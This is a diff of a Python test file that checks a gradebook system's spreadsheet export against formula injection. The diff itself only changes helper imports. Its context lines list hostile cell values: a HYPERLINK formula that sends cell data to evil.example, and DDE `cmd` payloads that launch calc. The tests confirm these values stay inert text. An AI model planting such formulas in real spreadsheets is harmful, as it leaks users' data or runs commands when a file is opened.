@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 
 import journal_rules as jr
 import journal_rules_office as office
+from journal_rules.testing import complete_term, demo_gradebook
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -26,7 +27,7 @@ WHITESPACE = ["\t=1+1", "\r=1+1"]
 def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[jr.GradeSheet]]:
     """The demo term, with students of hostile names registered (through a contingent import)
     before the term is completed and its grade sheets formed."""
-    book = jr.demo_gradebook(jr.MemoryStore())
+    book = demo_gradebook(jr.MemoryStore())
     group = book.directory.group("101")
     rows = [["academic_year", "group", "specialty", "year_of_study", "school", "language",
              "curation_dean", "student", "student_name"]]
@@ -40,7 +41,7 @@ def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[j
         csv.writer(f).writerows(rows)
     jr.import_file(book, "or-insp", "contingent", path)
     assert isinstance(book.clock, jr.ManualClock)
-    return book, jr.complete_term(book, book.clock)
+    return book, complete_term(book, book.clock)
 
 
 def _cells(path: Path) -> list[tuple[object, str]]:
@@ -89,7 +90,7 @@ def test_ktp_keeps_hostile_text_as_text_and_imports_back(tmp_path: Path) -> None
     ], minutes_number="=1+1", minutes_date=date(2025, 8, 25), agreed_by="=A1")
     path = office.plan_to_xlsx(plan, tmp_path / "ktp.xlsx", unit_name="=2*3")
     _assert_inert(_cells(path), [HOSTILE[0], HOSTILE[1], HOSTILE[3], "=cmd|' /C calc'!A0"])
-    book = jr.demo_gradebook(jr.MemoryStore())
+    book = demo_gradebook(jr.MemoryStore())
     command = jr.plan_import(book, "plan", path)[0]
     assert isinstance(command, jr.LoadCalendarPlan)
     assert command.plan == plan  # text in, the same text out
